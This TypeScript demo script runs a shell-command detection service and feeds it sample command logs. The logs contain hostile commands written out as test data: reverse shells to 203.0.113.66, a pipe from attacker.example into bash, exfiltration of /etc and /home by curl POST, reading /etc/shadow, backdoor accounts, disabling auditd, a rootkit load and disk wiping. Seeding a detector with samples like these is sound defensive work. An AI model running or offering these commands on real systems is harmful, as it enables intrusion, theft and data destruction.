/**
 * `npm run demo`: the local stack up, the service up, a few dozen realistic shell
 * command records (some malicious, in several log formats) into Kafka, and the
 * alerts read back from Elasticsearch as a table. Leaves the stack running.
 */
import { execFileSync, spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { resolve } from 'node:path';
import { Client } from '@elastic/elasticsearch';
import { Kafka, logLevel, Partitioners } from 'kafkajs';
import { errorMessage } from '../src/core/errors';

const ROOT = resolve(__dirname, '../..');
const TOPIC = 'shell.commands';
const ALERTS_INDEX = 'shellwatch-alerts';
const PORT = Number(process.env.HTTP_PORT ?? 3000);

const step = (text: string): void => void process.stdout.write(`\n▶ ${text}\n`);

function sampleRecords(run: string): string[] {
  const at = (s: number): string => new Date(Date.now() - (120 - s) * 1000).toISOString();
  const vssh = (
    s: number,
    user: string,
    host: string,
    command: string,
    cwd = `/home/${user}`,
  ): string =>
    JSON.stringify({
      timestamp: at(s),
      user,
      account: user === 'mallory' ? 'root' : user,
      host,
      client_ip: user === 'mallory' ? '203.0.113.66' : '198.51.100.10',
      session_id: `${run}-${user}`,
      tty: 'pts/1',
      cwd,
      command,
      exit_code: 0,
    });
  // RFC 3164 as rsyslog forwards it: "<PRI>Mmm dd hh:mm:ss host tag: message" (UTC here).
  const syslogTime = (d: Date): string => {
    const month = d.toLocaleString('en-US', { month: 'short', timeZone: 'UTC' });
    return `${month} ${String(d.getUTCDate()).padStart(2, ' ')} ${d.toISOString().slice(11, 19)}`;
  };
  const snoopy = (host: string, uid: number, command: string): string =>
    `<86>${syslogTime(new Date())} ${host} snoopy[4242]: [uid:${uid} sid:4242 tty:/dev/pts/2 cwd:/tmp filename:/usr/bin/${command.split(' ')[0] ?? 'sh'}]: ${command}`;
  return [
    vssh(1, 'alice', 'web-01', 'ls -la /var/www'),
    vssh(2, 'alice', 'web-01', 'sudo systemctl restart nginx'),
    vssh(3, 'alice', 'web-01', 'tail -n 200 /var/log/nginx/error.log'),
    vssh(4, 'bob', 'db-02', 'psql -U app -c "select count(*) from orders"'),
    vssh(5, 'bob', 'db-02', 'rm -rf ./build'),
    vssh(6, 'bob', 'db-02', 'tar czf /backup/pg-2026-11-25.tgz /var/lib/postgresql/dumps'),
    vssh(7, 'carol', 'ci-runner-3', 'npm ci && npm test'),
    vssh(8, 'carol', 'ci-runner-3', 'curl -fsSL -o /tmp/helm.tgz https://get.example.com/helm.tgz'),
    vssh(9, 'carol', 'ci-runner-3', 'docker build -t registry.example.com/app:1.4.2 .'),
    vssh(10, 'alice', 'web-01', 'git -C /srv/app pull --ff-only'),
    vssh(11, 'bob', 'db-02', 'nc -z -w 2 db-03 5432'),
    vssh(12, 'alice', 'web-01', 'crontab -l'),
    vssh(13, 'mallory', 'web-01', 'id; uname -a; cat /etc/passwd'),
    vssh(14, 'mallory', 'web-01', 'cat /etc/shadow'),
    vssh(15, 'mallory', 'web-01', 'curl -s http://attacker.example/stage2.sh | bash'),
    vssh(16, 'mallory', 'web-01', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'),
    vssh(
      17,
      'mallory',
      'web-01',
      'echo "ssh-ed25519 AAAAC3Nza mallory@evil" >> /root/.ssh/authorized_keys',
    ),
    vssh(18, 'mallory', 'web-01', 'useradd -o -u 0 -g 0 -M sysupdate'),
    vssh(19, 'mallory', 'web-01', 'chmod +x /dev/shm/.x && /dev/shm/.x'),
    vssh(20, 'mallory', 'web-01', 'history -c && unset HISTFILE'),
    vssh(21, 'mallory', 'web-01', 'systemctl stop auditd'),
    vssh(
      22,
      'mallory',
      'web-01',
      'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNjYvOTAwMSAwPiYx | base64 -d | bash',
    ),
    vssh(23, 'mallory', 'web-01', "r''m -r''f /etc"),
    vssh(
      24,
      'mallory',
      'web-01',
      'tar czf - /etc /home | curl -X POST --data-binary @- http://attacker.example/u',
    ),
    vssh(
      25,
      'mallory',
      'web-01',
      'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.66",4445));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
    ),
    vssh(26, 'mallory', 'web-01', 'xmrig -o pool.example.net:3333 -u 4Abc --donate-level 1'),
    snoopy('web-02', 1000, 'ls -l /srv'),
    snoopy('web-02', 0, 'insmod /tmp/rootkit.ko'),
    snoopy('web-02', 0, 'dd if=/dev/zero of=/dev/sda bs=1M'),
    vssh(27, 'dave', 'bastion-1', 'ssh -J bastion-1 web-01'),
    vssh(28, 'dave', 'bastion-1', 'kubectl -n payments rollout restart deploy/api'),
    vssh(29, 'dave', 'bastion-1', 'journalctl -u kafka --since "10 min ago"'),
    vssh(30, 'erin', 'build-7', 'make -j4 && ./scripts/package.sh'),
    vssh(31, 'erin', 'build-7', 'find . -name "*.pyc" -delete'),
    vssh(32, 'erin', 'build-7', 'base64 -w0 build/app.tar > build/app.b64'),
    vssh(33, 'erin', 'build-7', 'chmod 755 scripts/package.sh'),
  ];
}

async function main(): Promise<void> {
  const run = `demo-${randomUUID().slice(0, 6)}`;
  step('Starting the local stack (Kafka + Elasticsearch)');
  execFileSync('bash', [resolve(ROOT, 'scripts/stack.sh'), 'up'], { stdio: 'inherit' });

  const kafka = new Kafka({
    brokers: ['127.0.0.1:9092'],
    clientId: 'shellwatch-demo',
    logLevel: logLevel.NOTHING,
  });
  await ensureTopics(kafka, [TOPIC, `${TOPIC}.dlq`]);

  step(`Starting Shellwatch (HTTP on 127.0.0.1:${PORT})`);
  const service = spawn(process.execPath, [resolve(ROOT, 'dist/src/main.js')], {
    cwd: ROOT,
    env: { ...process.env, HTTP_PORT: String(PORT), HTTP_HOST: '127.0.0.1', LOG_LEVEL: 'warn' },
    stdio: ['ignore', 'inherit', 'inherit'],
  });
  // Called at the end and again on exit: one SIGTERM, or the service logs a second
  // shutdown request while it drains.
  const stopService = (): void => {
    if (!service.killed && service.exitCode === null) service.kill('SIGTERM');
  };
  process.on('exit', stopService);
  await waitUntil('the service to be ready', 90_000, async () => {
    const response = await fetch(`http://127.0.0.1:${PORT}/health/ready`).catch(() => undefined);
    return response?.status === 200;
  });

  const records = sampleRecords(run);
  const since = new Date().toISOString();
  step(`Producing ${records.length} shell command records into Kafka topic ${TOPIC}`);
  const producer = kafka.producer({ createPartitioner: Partitioners.DefaultPartitioner });
  await producer.connect();
  await producer.send({ topic: TOPIC, acks: -1, messages: records.map((value) => ({ value })) });
  await producer.disconnect();

  step('Waiting for the alerts in Elasticsearch');
  const es = new Client({ node: 'http://127.0.0.1:9200' });
  let alerts: AlertRow[] = [];
  let stableFor = 0;
  await waitUntil('alerts to arrive', 60_000, async () => {
    await es.indices.refresh({ index: ALERTS_INDEX });
    const found = await searchAlerts(es, since);
    stableFor = found.length === alerts.length && found.length > 0 ? stableFor + 1 : 0;
    alerts = found;
    return stableFor >= 3;
  });
  printTable(alerts);
  stopService();
  process.stdout.write(
    `\n${alerts.length} alerts from ${records.length} commands. The stack keeps running:` +
      `\n  npm start             run the service yourself` +
      `\n  npm run stack:status  where the logs and data are` +
      `\n  npm run stack:down    stop Kafka and Elasticsearch\n`,
  );
  await es.close();
}

/** The fields of an alert document the table shows. */
interface AlertSource {
  '@timestamp'?: string;
  host?: { name?: string };
  user?: { name?: string };
  rule?: { id?: string; name?: string };
  shellwatch?: { rule?: { severity?: string } };
  process?: { command_line?: string };
}

/** Shippers' topics are usually created by the Kafka operators; the demo creates its own. */
async function ensureTopics(kafka: Kafka, topics: string[]): Promise<void> {
  const admin = kafka.admin();
  await admin.connect();
  try {
    const existing = new Set(await admin.listTopics());
    const missing = topics.filter((t) => !existing.has(t));
    if (missing.length > 0) {
      await admin.createTopics({
        topics: missing.map((topic) => ({ topic, numPartitions: 3 })),
        waitForLeaders: true,
      });
    }
  } finally {
    await admin.disconnect();
  }
}

interface AlertRow {
  time: string;
  host: string;
  user: string;
  severity: string;
  rule: string;
  name: string;
  command: string;
}

async function searchAlerts(es: Client, since: string): Promise<AlertRow[]> {
  const response = await es.search<AlertSource>({
    index: ALERTS_INDEX,
    size: 200,
    sort: [{ '@timestamp': 'asc' }],
    query: {
      bool: {
        // Alerts created since this run produced its records are this run's.
        filter: [{ range: { 'event.created': { gte: since } } }],
      },
    },
  });
  return response.hits.hits.map((hit) => {
    const s: AlertSource = hit._source ?? {};
    return {
      time: (s['@timestamp'] ?? '').slice(11, 19),
      host: s.host?.name ?? '',
      user: s.user?.name ?? '',
      severity: s.shellwatch?.rule?.severity ?? '',
      rule: s.rule?.id ?? '',
      name: s.rule?.name ?? '',
      command: s.process?.command_line ?? '',
    };
  });
}

function printTable(rows: AlertRow[]): void {
  const columns: (keyof AlertRow)[] = [
    'time',
    'host',
    'user',
    'severity',
    'rule',
    'name',
    'command',
  ];
  const width = (c: keyof AlertRow): number =>
    Math.min(c === 'command' ? 60 : 44, Math.max(c.length, ...rows.map((r) => r[c].length)));
  const cell = (text: string, c: keyof AlertRow): string => {
    const w = width(c);
    return text.length > w ? `${text.slice(0, w - 1)}…` : text.padEnd(w);
  };
  process.stdout.write(`\n${columns.map((c) => cell(c.toUpperCase(), c)).join('  ')}\n`);
  process.stdout.write(`${columns.map((c) => '-'.repeat(width(c))).join('  ')}\n`);
  for (const row of rows)
    process.stdout.write(`${columns.map((c) => cell(row[c], c)).join('  ')}\n`);
}

async function waitUntil(
  what: string,
  timeoutMs: number,
  probe: () => Promise<boolean>,
): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await probe().catch(() => false))) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 500));
  }
}

main().then(
  () => process.exit(0),
  (error: unknown) => {
    process.stderr.write(`demo failed: ${errorMessage(error)}\n`);
    process.exit(1);
  },
);
